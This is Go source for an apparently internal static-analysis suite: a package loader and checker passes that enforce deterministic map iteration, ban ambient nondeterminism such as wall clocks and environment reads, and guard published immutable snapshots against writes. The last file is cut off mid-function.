	root, modPath, err := findModule(dir)
	if err != nil {
		return nil, err
	}
	l := &Loader{
		ModulePath: modPath,
		ModuleDir:  root,
		Fset:       token.NewFileSet(),
		pkgs:       make(map[string]*Package),
		loading:    make(map[string]bool),
	}
	l.std = importer.ForCompiler(l.Fset, "gc", l.lookupExport)
	return l, nil
}

// findModule walks up from dir to the first go.mod and returns the module
// root and module path.
func findModule(dir string) (root, modPath string, err error) {
	dir, err = filepath.Abs(dir)
	if err != nil {
		return "", "", err
	}
	for {
		data, err := os.ReadFile(filepath.Join(dir, "go.mod"))
		if err == nil {
			for _, line := range strings.Split(string(data), "\n") {
				line = strings.TrimSpace(line)
				if rest, ok := strings.CutPrefix(line, "module "); ok {
					return dir, strings.TrimSpace(rest), nil
				}
			}
			return "", "", fmt.Errorf("analyzers: no module line in %s/go.mod", dir)
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", "", fmt.Errorf("analyzers: no go.mod at or above %s", dir)
		}
		dir = parent
	}
}

// ListPackages expands go-list patterns (default ./...) into the module's
// import paths.
func (l *Loader) ListPackages(patterns ...string) ([]string, error) {
	if len(patterns) == 0 {
		patterns = []string{"./..."}
	}
	args := append([]string{"list", "--"}, patterns...)
	cmd := exec.Command("go", args...)
	cmd.Dir = l.ModuleDir
	var out, errBuf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errBuf
	if err := cmd.Run(); err != nil {
		return nil, fmt.Errorf("analyzers: go list %s: %v\n%s", strings.Join(patterns, " "), err, errBuf.String())
	}
	var paths []string
	for _, line := range strings.Split(out.String(), "\n") {
		if line = strings.TrimSpace(line); line != "" {
			paths = append(paths, line)
		}
	}
	return paths, nil
}

// Load typechecks the package at the given in-module import path.
func (l *Loader) Load(path string) (*Package, error) {
	dir, ok := l.moduleDirFor(path)
	if !ok {
		return nil, fmt.Errorf("analyzers: %s is not under module %s", path, l.ModulePath)
	}
	return l.LoadDir(dir, path)
}

func (l *Loader) moduleDirFor(path string) (string, bool) {
	if path == l.ModulePath {
		return l.ModuleDir, true
	}
	rel, ok := strings.CutPrefix(path, l.ModulePath+"/")
	if !ok {
		return "", false
	}
	return filepath.Join(l.ModuleDir, filepath.FromSlash(rel)), true
}

// LoadDir typechecks the single package in dir under the given import path.
// The path does not have to live inside the module — the fixture runner
// loads testdata packages this way — but its own imports must be stdlib or
// in-module.
func (l *Loader) LoadDir(dir, path string) (*Package, error) {
	if pkg, ok := l.pkgs[path]; ok {
		return pkg, nil
	}
	if l.loading[path] {
		return nil, fmt.Errorf("analyzers: import cycle through %s", path)
	}
	l.loading[path] = true
	defer delete(l.loading, path)

	bp, err := build.Default.ImportDir(dir, 0)
	if err != nil {
		return nil, fmt.Errorf("analyzers: %s: %w", dir, err)
	}
	names := append([]string(nil), bp.GoFiles...)
	sort.Strings(names)

	files := make([]*ast.File, 0, len(names))
	for _, name := range names {
		f, err := parser.ParseFile(l.Fset, filepath.Join(dir, name), nil, parser.ParseComments|parser.SkipObjectResolution)
		if err != nil {
			return nil, err
		}
		files = append(files, f)
	}

	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Implicits:  make(map[ast.Node]types.Object),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	var typeErrs []error
	conf := types.Config{
		Importer: l,
		Error:    func(err error) { typeErrs = append(typeErrs, err) },
	}
	tpkg, err := conf.Check(path, l.Fset, files, info)
	if len(typeErrs) > 0 {
		return nil, fmt.Errorf("analyzers: typecheck %s: %v", path, typeErrs[0])
	}
	if err != nil {
		return nil, fmt.Errorf("analyzers: typecheck %s: %w", path, err)
	}

	pkg := &Package{Path: path, Dir: dir, Fset: l.Fset, Files: files, Types: tpkg, Info: info}
	l.pkgs[path] = pkg
	return pkg, nil
}

// Import implements types.Importer: module packages from source, the rest
// from compiled export data.
func (l *Loader) Import(path string) (*types.Package, error) {
	if path == "unsafe" {
		return types.Unsafe, nil
	}
	if dir, ok := l.moduleDirFor(path); ok {
		pkg, err := l.LoadDir(dir, path)
		if err != nil {
			return nil, err
		}
		return pkg.Types, nil
	}
	return l.std.Import(path)
}

// lookupExport feeds the gc importer: it maps an import path to the
// toolchain's export-data file for it, priming the whole dependency set
// with one `go list -deps -export ./...` and falling back to a targeted
// `go list -export <path>` for packages (fixture-only imports) outside it.
func (l *Loader) lookupExport(path string) (io.ReadCloser, error) {
	l.exportsOnce.Do(func() {
		l.exports = make(map[string]string)
		l.exportsErr = l.primeExports("./...")
	})
	if l.exportsErr != nil {
		return nil, l.exportsErr
	}
	if l.exports[path] == "" {
		if err := l.primeExports(path); err != nil {
			return nil, err
		}
	}
	file := l.exports[path]
	if file == "" {
		return nil, fmt.Errorf("analyzers: no export data for %q", path)
	}
	return os.Open(file)
}

func (l *Loader) primeExports(pattern string) error {
	cmd := exec.Command("go", "list", "-deps", "-export", "-e", "-f", "{{.ImportPath}}\t{{.Export}}", "--", pattern)
	cmd.Dir = l.ModuleDir
	var out, errBuf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errBuf
	if err := cmd.Run(); err != nil {
		return fmt.Errorf("analyzers: go list -export %s: %v\n%s", pattern, err, errBuf.String())
	}
	for _, line := range strings.Split(out.String(), "\n") {
		ip, file, ok := strings.Cut(strings.TrimSpace(line), "\t")
		if ok && ip != "" && file != "" {
			l.exports[ip] = file
		}
	}
	return nil
}
