package analyzers

// maprange — deterministic-zone map iteration discipline.
//
// Go randomizes map iteration order, so inside the deterministic zone a
// `for k := range m` whose body has loop-order-dependent effects silently
// breaks the byte-identical-output contract. The pass flags effects that
// escape a map-range body unless they are one of the sanctioned
// order-independent idioms:
//
//   - collect-then-sort: `keys = append(keys, k)` where the slice is passed
//     to sort.*/slices.* (or any sort-named helper) after the loop;
//   - keyed transfer: writes `dst[k] = ...` / `delete(dst, k)` into another
//     container indexed by the range key — each key is visited exactly once,
//     so the final contents are order-independent;
//   - keyed mutator calls: a mutator method that receives the range key as
//     an argument (`g.SetAttr(id, k, v)`) mirrors `dst[k] = v`;
//   - commutative accumulation: ++/-- and integer +=, -=, *=, |=, &=, ^=,
//     &^= on outer scalars, boolean `ok = ok || ...` / `ok = ok && ...`
//     folds, `x = max(x, ...)` / `x = min(x, ...)`, and idempotent constant
//     assignments (`found = true`);
//   - fail-fast error returns: `return ..., err` aborts the computation, and
//     on the failure path the byte-identical-output contract is already
//     forfeit — only non-error results derived from the iteration are
//     flagged.
//
// Anything else — appends that are never sorted, writes through outer
// struct fields, sends, statement-position calls on outer receivers, early
// returns derived from the iteration — is reported. A reviewed exception
// carries `//malgraph:nondeterm-ok <reason>` on the offending line (or on
// the `for` line to waive the whole loop).

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// Maprange reports loop-order-dependent effects escaping map ranges.
var Maprange = &Analyzer{
	Name:   "maprange",
	Doc:    "flag map iteration with loop-order-dependent effects in the deterministic zone",
	Waiver: "nondeterm",
	Run:    runMaprange,
}

func runMaprange(pass *Pass) {
	for _, f := range pass.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			ast.Inspect(fd.Body, func(n ast.Node) bool {
				rng, ok := n.(*ast.RangeStmt)
				if !ok {
					return true
				}
				tv, ok := pass.Info.Types[rng.X]
				if !ok || !isMapType(tv.Type) {
					return true
				}
				if pass.Waived(rng.Pos()) {
					return true // the loop is waived; still visit nested ranges
				}
				check := &mapRangeCheck{pass: pass, fn: fd, rng: rng}
				check.keyObj = rangeVarObj(pass.Info, rng.Key)
				check.valObj = rangeVarObj(pass.Info, rng.Value)
				check.run()
				return true
			})
		}
	}
}

func rangeVarObj(info *types.Info, e ast.Expr) types.Object {
	id, ok := e.(*ast.Ident)
	if !ok {
		return nil
	}
	return identObj(info, id)
}

type mapRangeCheck struct {
	pass     *Pass
	fn       *ast.FuncDecl
	rng      *ast.RangeStmt
	keyObj   types.Object
	valObj   types.Object
	reported map[token.Pos]bool
	foldOK   map[token.Pos]bool // assignments sanctioned as `if y > x { x = y }` folds
}

// inner reports whether the object is declared inside the range statement
// (including the key/value variables) — effects confined to it cannot
// escape an iteration.
func (c *mapRangeCheck) inner(obj types.Object) bool {
	if obj == nil {
		return true // blank identifier
	}
	return obj.Pos() >= c.rng.Pos() && obj.Pos() < c.rng.End()
}

func (c *mapRangeCheck) usesLoopState(e ast.Expr) bool {
	found := false
	ast.Inspect(e, func(n ast.Node) bool {
		if found {
			return false
		}
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		if obj := identObj(c.pass.Info, id); obj != nil {
			if _, isVar := obj.(*types.Var); isVar && c.inner(obj) {
				found = true
			}
		}
		return !found
	})
	return found
}

func (c *mapRangeCheck) run() {
	// A `return` inside a func literal exits the closure, not the enclosing
	// function — the early-return rule must not fire on it.
	var litSpans [][2]token.Pos
	ast.Inspect(c.rng.Body, func(n ast.Node) bool {
		if lit, ok := n.(*ast.FuncLit); ok {
			litSpans = append(litSpans, [2]token.Pos{lit.Pos(), lit.End()})
		}
		return true
	})
	inFuncLit := func(pos token.Pos) bool {
		for _, sp := range litSpans {
			if pos >= sp[0] && pos < sp[1] {
				return true
			}
		}
		return false
	}

	ast.Inspect(c.rng.Body, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.IfStmt:
			c.markMinMaxFold(s)
		case *ast.AssignStmt:
			c.checkAssign(s)
		case *ast.IncDecStmt:
			// count++ / count-- accumulate commutatively whatever the order.
		case *ast.SendStmt:
			c.report(s.Pos(), "sends on a channel from inside a map range (receive order follows iteration order)")
		case *ast.GoStmt:
			c.report(s.Pos(), "spawns a goroutine per map element (scheduling follows iteration order)")
		case *ast.DeferStmt:
			c.report(s.Pos(), "defers a call per map element (defers run in iteration order)")
		case *ast.ReturnStmt:
			if inFuncLit(s.Pos()) {
				return true
			}
			for _, res := range s.Results {
				if c.usesLoopState(res) && !isErrorTyped(c.pass.Info, res) {
					c.report(s.Pos(), "returns a value derived from map iteration (which element is found first depends on iteration order)")
					break
				}
			}
		case *ast.ExprStmt:
			c.checkStmtCall(s)
		case *ast.CallExpr:
			c.checkExprCall(s)
		}
		return true
	})
}

var errorIface = types.Universe.Lookup("error").Type().Underlying().(*types.Interface)

// isErrorTyped reports whether the expression's type is (or implements)
// error — fail-fast error propagation out of a map range is sanctioned.
func isErrorTyped(info *types.Info, e ast.Expr) bool {
	tv, ok := info.Types[e]
	if !ok || tv.Type == nil {
		return false
	}
	return types.Implements(tv.Type, errorIface)
}

func (c *mapRangeCheck) report(pos token.Pos, detail string) {
	if c.reported == nil {
		c.reported = make(map[token.Pos]bool)
	}
	if c.reported[pos] {
		return
	}
	c.reported[pos] = true
	c.pass.Reportf(pos, "%s inside range over map — iterate sorted keys, or waive with //malgraph:nondeterm-ok <reason>", detail)
}

// markMinMaxFold sanctions the compare-and-assign spelling of max/min:
// `if y > x { x = y }` (any of > < >= <=, either operand order). Max and min
// are commutative and associative, so the fold's result is order-independent.
// Only the compared assignment is sanctioned — an argmax side assignment in
// the same body (`bestID = k`) still depends on tie-breaking order and is
// flagged as usual.
func (c *mapRangeCheck) markMinMaxFold(s *ast.IfStmt) {
	cond, ok := s.Cond.(*ast.BinaryExpr)
	if !ok {
		return
	}
	switch cond.Op {
	case token.GTR, token.LSS, token.GEQ, token.LEQ:
	default:
		return
	}
	for _, stmt := range s.Body.List {
		asg, ok := stmt.(*ast.AssignStmt)
		if !ok || asg.Tok != token.ASSIGN || len(asg.Lhs) != 1 || len(asg.Rhs) != 1 {
			continue
		}
		lhs, rhs := asg.Lhs[0], asg.Rhs[0]
		straight := sameRef(c.pass.Info, cond.X, rhs) && sameRef(c.pass.Info, cond.Y, lhs)
		flipped := sameRef(c.pass.Info, cond.X, lhs) && sameRef(c.pass.Info, cond.Y, rhs)
		if straight || flipped {
			if c.foldOK == nil {
				c.foldOK = make(map[token.Pos]bool)
			}
			c.foldOK[asg.Pos()] = true
		}
	}
}

// checkAssign vets one assignment inside the loop body.
func (c *mapRangeCheck) checkAssign(s *ast.AssignStmt) {
	if s.Tok == token.DEFINE {
		return // fresh inner variables; RHS calls are vetted separately
	}
	if c.foldOK[s.Pos()] {
		return // sanctioned `if y > x { x = y }` max/min fold
	}
	for i, lhs := range s.Lhs {
		var rhs ast.Expr
		if len(s.Rhs) == len(s.Lhs) {
			rhs = s.Rhs[i]
		} else if len(s.Rhs) == 1 {
			rhs = s.Rhs[0]
		}
		c.checkAssignTarget(s, lhs, rhs)
	}
}

var commutativeAssignOps = map[token.Token]bool{
	token.ADD_ASSIGN:     true, // +=
	token.SUB_ASSIGN:     true, // -=
	token.MUL_ASSIGN:     true, // *=
	token.OR_ASSIGN:      true, // |=
	token.AND_ASSIGN:     true, // &=
	token.XOR_ASSIGN:     true, // ^=
	token.AND_NOT_ASSIGN: true, // &^=
}

func (c *mapRangeCheck) checkAssignTarget(s *ast.AssignStmt, lhs, rhs ast.Expr) {
	lhs = ast.Unparen(lhs)
	if id, ok := lhs.(*ast.Ident); ok && id.Name == "_" {
		return
	}
	root := rootObj(c.pass.Info, lhs)
	if root == nil || c.inner(root) {
		return // writes confined to the iteration (or rooted at a call) are fine
	}

	switch target := lhs.(type) {
	case *ast.Ident, *ast.SelectorExpr:
		if commutativeAssignOps[s.Tok] && isIntegerType(c.pass.Info.Types[lhs].Type) {
			return // commutative integer accumulation (scalar or field)
		}
		if s.Tok == token.ASSIGN {
			if c.isAllowedPlainAssign(root, rhs) {
				return
			}
			if selfAppend(c.pass.Info, lhs, rhs) {
				if c.sortedAfterLoop(root) {
					return // sanctioned collect-then-sort
				}
				c.report(s.Pos(), "appends to "+targetName(lhs, root)+" in map order without sorting it afterwards")
				return
			}
		}
		c.report(s.Pos(), "assigns to "+targetName(lhs, root)+", declared outside the loop, in iteration order")
	case *ast.IndexExpr:
		if c.keyObj != nil && usesObject(c.pass.Info, target.Index, c.keyObj) {
			return // dst[k] = ... — each key visited exactly once
		}
		if commutativeAssignOps[s.Tok] && isIntegerType(c.pass.Info.Types[target].Type) {
			return // dst[fixed] += n — commutative integer accumulation
		}
		if s.Tok == token.ASSIGN && rhs != nil && isConstExpr(c.pass.Info, rhs) {
			return // set[x] = true — every write stores the same constant, union semantics
		}
		c.report(s.Pos(), "writes through an index not derived from the range key (last writer depends on iteration order)")
	default:
		c.report(s.Pos(), "writes through "+root.Name()+", declared outside the loop, in iteration order")
	}
}

// targetName renders an assignment target for a finding: the field chain when
// it is one, otherwise the variable name.
func targetName(lhs ast.Expr, root *types.Var) string {
	if sel, ok := lhs.(*ast.SelectorExpr); ok {
		return root.Name() + "." + sel.Sel.Name
	}
	return root.Name()
}

// isAllowedPlainAssign accepts the idempotent / commutative scalar forms:
// constant stores, `x = x || p`, `x = x && p`, `x = max(x, ...)`.
func (c *mapRangeCheck) isAllowedPlainAssign(obj types.Object, rhs ast.Expr) bool {
	if rhs == nil {
		return false
	}
	switch r := ast.Unparen(rhs).(type) {
	case *ast.BasicLit:
		return true
	case *ast.Ident:
		return r.Name == "true" || r.Name == "false" || r.Name == "nil"
	case *ast.BinaryExpr:
		if r.Op == token.LOR || r.Op == token.LAND {
			return usesObject(c.pass.Info, r.X, obj) || usesObject(c.pass.Info, r.Y, obj)
		}
	case *ast.CallExpr:
		if id, ok := ast.Unparen(r.Fun).(*ast.Ident); ok && (id.Name == "max" || id.Name == "min") {
			if _, isBuiltin := identObj(c.pass.Info, id).(*types.Builtin); isBuiltin {
				for _, arg := range r.Args {
					if usesObject(c.pass.Info, arg, obj) {
						return true
					}
				}
			}
		}
	}
	return false
}

// checkStmtCall vets a statement-position call — by definition executed for
// its effect.
func (c *mapRangeCheck) checkStmtCall(s *ast.ExprStmt) {
	call, ok := s.X.(*ast.CallExpr)
	if !ok {
		return
	}
	if id, ok := ast.Unparen(call.Fun).(*ast.Ident); ok {
		if _, isBuiltin := identObj(c.pass.Info, id).(*types.Builtin); isBuiltin {
			c.checkBuiltinStmt(id.Name, call)
			return
		}
		// Call to a declared function in statement position: executed for
		// effect; conversions and value-returning uses land in assignments.
		c.report(call.Pos(), "calls "+id.Name+" for effect once per map element")
		return
	}
	if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok {
		if isPkgQualified(c.pass.Info, sel) {
			// A package function mutates only what it is handed: judge by the
			// arguments. sort.Strings(members) on a loop-local slice is fine;
			// sort.Strings(outer) or fmt.Fprintf(w, ...) is an escaping effect.
			if strings.Contains(sel.Sel.Name, "Print") {
				c.report(call.Pos(), "calls "+sel.Sel.Name+" once per map element (output follows iteration order)")
				return
			}
			for _, arg := range call.Args {
				if root := rootObj(c.pass.Info, arg); root != nil && !c.inner(root) {
					c.report(call.Pos(), "calls "+sel.Sel.Name+" with "+root.Name()+", declared outside the loop, once per map element")
					return
				}
			}
			return
		}
		root := rootObj(c.pass.Info, sel.X)
		if root != nil && c.inner(root) {
			return // method on an iteration-local value
		}
		if c.keyedCall(call) {
			return // keyed mutator transfer — the method analog of dst[k] = v
		}
		c.report(call.Pos(), "calls "+sel.Sel.Name+" for effect on state declared outside the loop")
	}
}

// keyedCall reports whether the call passes the range key as an argument —
// each key is visited exactly once, so `dst.Set(k, v)`-shaped calls are
// order-independent the same way `dst[k] = v` is.
func (c *mapRangeCheck) keyedCall(call *ast.CallExpr) bool {
	if c.keyObj == nil {
		return false
	}
	for _, arg := range call.Args {
		if usesObject(c.pass.Info, arg, c.keyObj) {
			return true
		}
	}
	return false
}

// isPkgQualified reports whether sel is `pkg.Fn` rather than a method or
// field chain.
func isPkgQualified(info *types.Info, sel *ast.SelectorExpr) bool {
	id, ok := rootExpr(sel.X).(*ast.Ident)
	if !ok {
		return false
	}
	_, isPkg := identObj(info, id).(*types.PkgName)
	return isPkg
}

func (c *mapRangeCheck) checkBuiltinStmt(name string, call *ast.CallExpr) {
	switch name {
	case "delete":
		if len(call.Args) == 2 {
			root := rootObj(c.pass.Info, call.Args[0])
			if root == nil || c.inner(root) {
				return
			}
			if c.keyObj != nil && usesObject(c.pass.Info, call.Args[1], c.keyObj) {
				return // delete(dst, k) — keyed, order-independent
			}
			c.report(call.Pos(), "deletes a key not derived from the range key")
		}
	case "copy":
		if len(call.Args) == 2 {
			root := rootObj(c.pass.Info, call.Args[0])
			if root != nil && !c.inner(root) {
				c.report(call.Pos(), "copies into "+root.Name()+", declared outside the loop, in iteration order")
			}
		}
	case "panic":
		if len(call.Args) == 1 && c.usesLoopState(call.Args[0]) {
			c.report(call.Pos(), "panics with a value derived from map iteration (which element trips first depends on iteration order)")
		}
	case "clear":
		if len(call.Args) == 1 {
			root := rootObj(c.pass.Info, call.Args[0])
			if root != nil && !c.inner(root) {
				c.report(call.Pos(), "clears "+root.Name()+", declared outside the loop, from inside the iteration")
			}
		}
	}
}

// checkExprCall vets calls in expression position: reads are fine, but a
// mutator-named method on an outer receiver is an escaping effect wherever
// its result goes.
func (c *mapRangeCheck) checkExprCall(call *ast.CallExpr) {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok {
		return
	}
	if selObj, found := c.pass.Info.Selections[sel]; !found || selObj.Kind() != types.MethodVal {
		return // package-qualified call or field invocation
	}
	if !isMutatorName(sel.Sel.Name) {
		return
	}
	root := rootObj(c.pass.Info, sel.X)
	if root == nil || c.inner(root) {
		return
	}
	if c.keyedCall(call) {
		return // keyed mutator transfer — the method analog of dst[k] = v
	}
	c.report(call.Pos(), "calls mutator "+sel.Sel.Name+" on "+root.Name()+", declared outside the loop, in iteration order")
}

var mutatorPrefixes = []string{
	"Add", "Set", "Remove", "Delete", "Insert", "Upsert", "Reset",
	"Clear", "Merge", "Push", "Pop", "Append", "Store", "Ingest",
	"Apply", "Join", "Attach", "Truncate", "Write",
}

func isMutatorName(name string) bool {
	for _, p := range mutatorPrefixes {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

// sortedAfterLoop reports whether, after the range statement, the enclosing
// function passes the collected slice to a sorting call — sort.*/slices.*
// or any helper whose name says it sorts.
func (c *mapRangeCheck) sortedAfterLoop(slice types.Object) bool {
	sorted := false
	ast.Inspect(c.fn.Body, func(n ast.Node) bool {
		if sorted {
			return false
		}
		call, ok := n.(*ast.CallExpr)
		if !ok || call.Pos() < c.rng.End() {
			return true
		}
		if !isSortCall(c.pass.Info, call) {
			return true
		}
		for _, arg := range call.Args {
			if usesObject(c.pass.Info, arg, slice) {
				sorted = true
				break
			}
		}
		if sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr); ok && !sorted {
			if usesObject(c.pass.Info, sel.X, slice) {
				sorted = true // keys.Sort()-style method
			}
		}
		return !sorted
	})
	return sorted
}

func isSortCall(info *types.Info, call *ast.CallExpr) bool {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		return containsSortWord(fun.Name)
	case *ast.SelectorExpr:
		if id, ok := ast.Unparen(fun.X).(*ast.Ident); ok {
			if pkg, ok := identObj(info, id).(*types.PkgName); ok {
				path := pkg.Imported().Path()
				if path == "sort" || path == "slices" {
					return true
				}
			}
		}
		return containsSortWord(fun.Sel.Name)
	}
	return false
}

func containsSortWord(name string) bool {
	return strings.Contains(strings.ToLower(name), "sort")
}

// isConstExpr reports whether the expression is a compile-time constant
// (literal, true/false, or named constant) or nil.
func isConstExpr(info *types.Info, e ast.Expr) bool {
	tv, ok := info.Types[e]
	if !ok {
		return false
	}
	return tv.Value != nil || tv.IsNil()
}

func isIntegerType(t types.Type) bool {
	if t == nil {
		return false
	}
	b, ok := t.Underlying().(*types.Basic)
	return ok && b.Info()&types.IsInteger != 0
}
