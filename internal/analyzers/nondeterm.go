package analyzers

// nondeterm — ambient-nondeterminism sources in the deterministic zone.
//
// The zone's contract is byte-identical output for identical input, under
// any GOMAXPROCS, batch partition, crash/replay or host. That rules out
// consulting anything ambient:
//
//   - wall clocks: time.Now (and time.Since/time.Until, which read it) —
//     timestamps must be injected by the caller;
//   - global RNG state: importing math/rand or math/rand/v2 at all — all
//     randomness routes through internal/xrand's seed-derived streams;
//   - the process environment: os.Getenv/LookupEnv/Environ — configuration
//     arrives through Config values, never ambient state;
//   - JSON-marshaling a bare map value: encoding/json sorts the keys of
//     the map itself, but the habit leaks into fmt-style formatting and
//     hides the ordering contract — marshal a struct or an explicitly
//     sorted slice instead.
//
// A reviewed exception carries `//malgraph:nondeterm-ok <reason>`.

import (
	"go/ast"
	"go/types"
	"strconv"
)

// Nondeterm reports ambient-nondeterminism sources.
var Nondeterm = &Analyzer{
	Name:   "nondeterm",
	Doc:    "forbid wall clocks, global RNG, environment reads and bare-map JSON marshaling in the deterministic zone",
	Waiver: "nondeterm",
	Run:    runNondeterm,
}

// forbiddenFuncs maps fully-qualified functions to the remedy named in the
// finding.
var forbiddenFuncs = map[string]string{
	"time.Now":     "inject the timestamp through the caller (the deterministic zone has no wall clock)",
	"time.Since":   "inject the timestamp through the caller (time.Since reads the wall clock)",
	"time.Until":   "inject the timestamp through the caller (time.Until reads the wall clock)",
	"os.Getenv":    "route configuration through Config values (the deterministic zone has no ambient environment)",
	"os.LookupEnv": "route configuration through Config values (the deterministic zone has no ambient environment)",
	"os.Environ":   "route configuration through Config values (the deterministic zone has no ambient environment)",
}

var forbiddenImports = map[string]string{
	"math/rand":    "derive a stream from internal/xrand instead (global RNG state breaks replay equivalence)",
	"math/rand/v2": "derive a stream from internal/xrand instead (global RNG state breaks replay equivalence)",
}

var jsonMarshalers = map[string]bool{
	"encoding/json.Marshal":           true,
	"encoding/json.MarshalIndent":     true,
	"(*encoding/json.Encoder).Encode": true,
}

func runNondeterm(pass *Pass) {
	for _, f := range pass.Files {
		for _, imp := range f.Imports {
			path, err := strconv.Unquote(imp.Path.Value)
			if err != nil {
				continue
			}
			if remedy, bad := forbiddenImports[path]; bad {
				pass.Reportf(imp.Pos(), "import of %s in the deterministic zone — %s", path, remedy)
			}
		}
		ast.Inspect(f, func(n ast.Node) bool {
			switch x := n.(type) {
			case *ast.SelectorExpr:
				fn, ok := identObj(pass.Info, x.Sel).(*types.Func)
				if !ok {
					return true
				}
				if remedy, bad := forbiddenFuncs[fn.FullName()]; bad {
					pass.Reportf(x.Pos(), "use of %s in the deterministic zone — %s", fn.FullName(), remedy)
				}
			case *ast.CallExpr:
				checkMapMarshal(pass, x)
			}
			return true
		})
	}
}

// checkMapMarshal flags JSON marshaling applied directly to a map value.
func checkMapMarshal(pass *Pass, call *ast.CallExpr) {
	name := funcFullName(pass.Info, call)
	if !jsonMarshalers[name] || len(call.Args) == 0 {
		return
	}
	tv, ok := pass.Info.Types[call.Args[0]]
	if !ok {
		return
	}
	t := tv.Type
	if p, isPtr := t.Underlying().(*types.Pointer); isPtr {
		t = p.Elem()
	}
	if isMapType(t) {
		pass.Reportf(call.Pos(),
			"JSON-marshals a bare map in the deterministic zone — marshal a struct or an explicitly sorted slice so the ordering contract is visible")
	}
}
