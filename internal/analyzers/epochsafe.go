package analyzers

// epochsafe — publish-then-freeze discipline for the lock-free read path.
//
// PR 7 split reads from writes: every pipeline mutator exits by publishing
// an immutable Epoch (carrying a copy-on-write core.Engine.View graph
// snapshot and an incremental Results chain) through an atomic pointer, and
// readers share those values without locks. That only holds if nothing
// writes to a published value: one post-publish map write or in-place
// append tears a view out from under a concurrent reader.
//
// The pass flags assignments, map writes, appends, deletes/clears and
// mutator-named method calls whose target chain is rooted at:
//
//   - a value of a type named Epoch or Results,
//   - the result of a View() method call (core.Engine.View,
//     collect.Result.View — the COW snapshots epochs are built from), or
//   - a local alias of either (one forward flow pass per function; range
//     variables over frozen containers are aliases too).
//
// Exemptions: the file that declares the frozen type and files defining a
// function that returns it (its constructor files — values under
// construction are not yet published), and locally built values
// (`r := &Results{...}` may be filled in before it escapes). A reviewed
// exception carries `//malgraph:epoch-ok <reason>`.

import (
	"go/ast"
	"go/token"
	"go/types"
)

// Epochsafe reports writes to epoch-frozen values outside constructor files.
var Epochsafe = &Analyzer{
	Name:   "epochsafe",
	Doc:    "flag writes to Epoch, Results and View()-derived values outside their constructor files",
	Waiver: "epoch",
	Run:    runEpochsafe,
}

// frozenTypeNames are the named types whose values are immutable once
// published.
var frozenTypeNames = map[string]bool{
	"Epoch":   true,
	"Results": true,
}

func runEpochsafe(pass *Pass) {
	for _, f := range pass.Files {
		exempt := constructorExemptions(pass, f)
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			c := &epochCheck{
				pass:   pass,
				exempt: exempt,
				fresh:  compositeLitVars(pass.Info, fd.Body),
				frozen: make(map[*types.Var]string),
			}
			c.walk(fd.Body)
		}
	}
}

// constructorExemptions returns the frozen type names this file may
// legitimately write to: types it declares and types it constructs (defines
// a function returning them).
func constructorExemptions(pass *Pass, f *ast.File) map[string]bool {
	exempt := make(map[string]bool)
	for _, decl := range f.Decls {
		switch d := decl.(type) {
		case *ast.GenDecl:
			for _, spec := range d.Specs {
				if ts, ok := spec.(*ast.TypeSpec); ok && frozenTypeNames[ts.Name.Name] {
					exempt[ts.Name.Name] = true
				}
			}
		case *ast.FuncDecl:
			if d.Type.Results == nil {
				continue
			}
			for _, res := range d.Type.Results.List {
				if tv, ok := pass.Info.Types[res.Type]; ok {
					if n := namedType(tv.Type); n != nil && frozenTypeNames[n.Obj().Name()] {
						exempt[n.Obj().Name()] = true
					}
				}
			}
		}
	}
	return exempt
}

type epochCheck struct {
	pass   *Pass
	exempt map[string]bool
	fresh  map[*types.Var]bool
	frozen map[*types.Var]string // local aliases of frozen values
}

// frozenDesc classifies an access chain's root: non-empty when the chain is
// rooted at a frozen value, describing it for the finding.
func (c *epochCheck) frozenDesc(e ast.Expr) string {
	root := rootExpr(e)
	switch r := root.(type) {
	case *ast.CallExpr:
		if sel, ok := ast.Unparen(r.Fun).(*ast.SelectorExpr); ok && sel.Sel.Name == "View" {
			return "a View() snapshot"
		}
	case *ast.Ident:
		v, ok := identObj(c.pass.Info, r).(*types.Var)
		if !ok {
			return ""
		}
		if desc := c.frozen[v]; desc != "" {
			return desc
		}
		if c.fresh[v] {
			return ""
		}
		if n := namedType(v.Type()); n != nil {
			name := n.Obj().Name()
			if frozenTypeNames[name] && !c.exempt[name] {
				return "a published " + name
			}
		}
	}
	return ""
}

func (c *epochCheck) report(pos token.Pos, action, desc string) {
	c.pass.Reportf(pos, "%s %s outside its constructor file — published views are frozen; build a new value instead, or waive with //malgraph:epoch-ok <reason>",
		action, desc)
}

func (c *epochCheck) walk(body *ast.BlockStmt) {
	ast.Inspect(body, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.AssignStmt:
			c.checkAssign(s)
		case *ast.RangeStmt:
			// Range variables over a frozen container alias its contents.
			if desc := c.frozenDesc(s.X); desc != "" {
				for _, e := range []ast.Expr{s.Key, s.Value} {
					if id, ok := e.(*ast.Ident); ok {
						if v, ok := identObj(c.pass.Info, id).(*types.Var); ok {
							c.frozen[v] = desc
						}
					}
				}
			}
		case *ast.IncDecStmt:
			if _, isIdent := ast.Unparen(s.X).(*ast.Ident); !isIdent {
				if desc := c.frozenDesc(s.X); desc != "" {
					c.report(s.Pos(), "increments a value reachable from", desc)
				}
			}
		case *ast.CallExpr:
			c.checkCall(s)
		}
		return true
	})
}

func (c *epochCheck) checkAssign(s *ast.AssignStmt) {
	// Taint propagation first: a local bound to a frozen-rooted expression
	// is an alias of frozen state; rebinding it to anything else clears it.
	if len(s.Lhs) == len(s.Rhs) {
		for i, lhs := range s.Lhs {
			id, ok := ast.Unparen(lhs).(*ast.Ident)
